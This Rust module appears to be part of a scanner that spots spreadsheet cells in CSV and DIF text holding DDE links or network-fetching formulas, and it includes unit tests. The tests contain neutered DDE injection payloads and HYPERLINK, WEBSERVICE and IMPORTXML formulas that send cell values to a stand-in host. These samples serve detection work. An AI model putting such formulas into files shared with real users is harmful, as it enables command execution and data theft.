//! Cells in text: values with any separator, quoted or not, and DIF, whose strings are lines.
//!
//! A cell is a formula if it starts with one of `=`, `+`, `-` and `@`, or in Japan with their wide
//! forms. Which character separates cells is not in the file, so that every common one does; what
//! follows one may still be part of the formula.

use memchr::memchr_iter;

use crate::limits::Limit;
use crate::observe::Ledger;

use super::super::{Load, LoadKind};
use super::formula::{Shape, function_at, kind_of, link_at, load};

/// Whether there is a bar or a call as formulas that act have them, in a byte for each unit.
pub(super) fn may_act(narrow: &[u8]) -> bool {
    memchr_iter(b'|', narrow).any(|bar| link_at(narrow, bar).is_some())
        || memchr_iter(b'(', narrow).any(|at| function_at(narrow, at).is_some())
}

/// The cells that act.
pub(super) fn read(text: &str, ledger: &mut Ledger) -> Vec<Load> {
    let mut found = Vec::new();
    let mut cell = Cell::default();
    let mut line = 1_u64;
    let mut skip = 0;
    let mut characters = text.char_indices().peekable();
    while let Some((at, c)) = characters.next() {
        if c == '\n' {
            line = line.saturating_add(1);
        }
        if at < skip {
            continue;
        }
        // In a quoted cell two quotes are one.
        if c == '"' && cell.quoted && !cell.fresh {
            if characters.peek().is_some_and(|(_, next)| *next == '"') {
                characters.next();
            } else {
                cell.quoted = false;
                continue;
            }
        }
        cell.feed(at, c);
        let Some(start) = cell.start else { continue };
        let hit = match c {
            '|' => link_at(text.as_bytes(), at)
                .filter(|link| link.quoted || cell.whole)
                .map(|link| (LoadKind::DdeFormula, link.end)),
            '(' => cell.call(text, start, at),
            _ => None,
        };
        let Some((kind, end)) = hit else { continue };
        if ledger.charge(Limit::Entries, 1).is_err() {
            break;
        }
        let formula = text.get(start..end).unwrap_or_default();
        found.push(load(kind, formula, format!("cell in line {line}")));
        cell.start = None;
        skip = end;
    }
    found
}

/// Where in a cell the reader is.
#[derive(Debug)]
struct Cell {
    /// Nothing but blanks came yet.
    fresh: bool,
    quoted: bool,
    /// Where a formula starts that may still go on.
    start: Option<usize>,
    /// Whether no separator came since.
    whole: bool,
    shape: Shape,
}

impl Default for Cell {
    fn default() -> Self {
        Self {
            fresh: true,
            quoted: false,
            start: None,
            whole: true,
            shape: Shape::default(),
        }
    }
}

impl Cell {
    fn feed(&mut self, at: usize, c: char) {
        if matches!(c, '\n' | '\r') && !(self.quoted && self.start.is_some()) {
            *self = Self::default();
            return;
        }
        if self.fresh {
            match c {
                '"' => self.quoted = true,
                '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' => {
                    self.fresh = false;
                    self.start = Some(at);
                    self.whole = true;
                    self.shape = Shape::default();
                    return;
                }
                _ if c.is_whitespace() || c.is_control() || matches!(c, ',' | ';' | '\u{FEFF}') => {
                }
                _ => self.fresh = false,
            }
        } else if matches!(c, ',' | ';' | '\t') && !self.quoted {
            self.fresh = true;
            self.whole = false;
        }
        if self.start.is_some() {
            self.shape.feed(c);
            if !self.shape.is_formula() {
                self.start = None;
            }
        }
    }

    /// A function that acts, whose arguments begin at `at`, and where they end.
    fn call(&self, text: &str, start: usize, at: usize) -> Option<(LoadKind, usize)> {
        let function = function_at(text.as_bytes(), at).filter(|_| self.whole)?;
        let before = text.get(start..at)?;
        let plain = before
            .chars()
            .nth(1)
            .is_some_and(|c| matches!(c, '_' | '.' | '(') || c.is_alphanumeric());
        // Lines of a listing or of a difference between two begin with these signs too.
        let sure = plain && (before.starts_with(['=', '＝']) || function.certain);
        if !sure {
            return None;
        }
        let end = arguments_end(text, at);
        let formula = text.get(start..end)?;
        // Without a text among its arguments, a sign in front is no formula that leads anywhere.
        (before.starts_with(['=', '＝']) || formula.contains('"'))
            .then(|| (kind_of(function, formula), end))
    }
}

/// Where arguments end that begin at `open`, or the line does.
fn arguments_end(text: &str, open: usize) -> usize {
    const LONGEST: usize = 4096;
    let mut depth = 0_u32;
    let mut quoted = false;
    let rest = text.get(open..).unwrap_or_default();
    for (at, c) in rest.char_indices().take(LONGEST) {
        match c {
            '"' => quoted = !quoted,
            '(' if !quoted => depth = depth.saturating_add(1),
            ')' if !quoted => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return open.saturating_add(at).saturating_add(1);
                }
            }
            '\n' | '\r' => return open.saturating_add(at),
            _ => {}
        }
    }
    let end = rest
        .char_indices()
        .nth(LONGEST)
        .map_or(rest.len(), |(at, _)| at);
    open.saturating_add(end)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::limits::Limits;

    fn formulas(text: &str) -> Vec<(LoadKind, String)> {
        assert!(
            may_act(text.as_bytes()) || read_all(text).is_empty(),
            "{text}"
        );
        read_all(text)
    }

    fn read_all(text: &str) -> Vec<(LoadKind, String)> {
        let mut ledger = Ledger::new(Limits::mail());
        let loads = read(text, &mut ledger).into_iter();
        loads.map(|load| (load.kind, load.target)).collect()
    }

    #[test]
    fn dde_cells() {
        for (text, formula) in [
            ("a,=inert|'/c x'!A1,b", "=inert|'/c x'!A1"),
            (
                "a;b\n1;\"@SUM(1)*inert|'/c x'!A1\"",
                "@SUM(1)*inert|'/c x'!A1",
            ),
            ("a\t  =inert|'/c x'!A1", "=inert|'/c x'!A1"),
            ("\t\r=inert|'/c x'!A1", "=inert|'/c x'!A1"),
            ("\"\t=inert|'/c x, y'!A1\"", "=inert|'/c x, y'!A1"),
            ("-2+3+inert|topic!A1", "-2+3+inert|topic!A1"),
            ("=SUM(1,2)*inert|'/c x'!A1", "=SUM(1,2)*inert|'/c x'!A1"),
            ("\"=1+\ninert|'/c x'!A1\"", "=1+\ninert|'/c x'!A1"),
            ("＝inert|'/c x'!A1", "＝inert|'/c x'!A1"),
            (
                "\"=CONCATENATE(\"\"two words\"\",1)+inert|'/c x'!A1\"",
                "=CONCATENATE(\"\"two words\"\",1)+inert|'/c x'!A1",
            ),
            (
                "=DDE(\"inert\";\"/c x\";\"y\")",
                "=DDE(\"inert\";\"/c x\";\"y\")",
            ),
        ] {
            assert_eq!(
                formulas(text),
                [(LoadKind::DdeFormula, formula.to_owned())],
                "{text}"
            );
        }
        let padded = format!("=A{}+inert|'/c x'!A1", "+A".repeat(900));
        assert_eq!(formulas(&padded).len(), 1);
    }

    #[test]
    fn formulas_that_fetch() {
        for (text, kind) in [
            ("=WEBSERVICE(\"http://example.invalid\")", LoadKind::Formula),
            (
                "1,\"=importxml(CONCAT(\"\"http://example.invalid/\"\",A1),1)\"",
                LoadKind::Formula,
            ),
            (
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
                LoadKind::Formula,
            ),
            (
                "=HYPERLINK(\"http://example.invalid/?a&b\",\"x\")",
                LoadKind::Hyperlink,
            ),
            (
                "+HYPERLINK(\"http://example.invalid/\")",
                LoadKind::Hyperlink,
            ),
        ] {
            let found = formulas(text);
            assert_eq!(found.len(), 1, "{text}");
            assert_eq!(found[0].0, kind, "{text}");
        }
    }

    #[test]
    fn ordinary_texts_have_none() {
        for text in [
            "a | b ! c\n| --- |\n- item a | b!\n",
            "-1,-2.5,+3\n-4,a|b,c!d\n-1,error|disk!full\n",
            "- yes|no, and more!\n- one thing|two things!three\n",
            "|a|b!c|\n|---|---|\n|-1|x!y|\n",
            "From: <a@example.invalid>\n@someone said x|y\n",
            "+call(\"x\")\n-exec(\"ls\")\n+    hyperlink(url)\n- image(x)\n",
            "= exec(x)\n + webservice(y)\n",
            "x = a|b!c\nif (a || b) && !c",
            "'=inert|'/c x'!A1 is text\n",
            "=======\n--------|-------!---\n",
        ] {
            assert_eq!(formulas(text), [], "{text}");
        }
    }
}
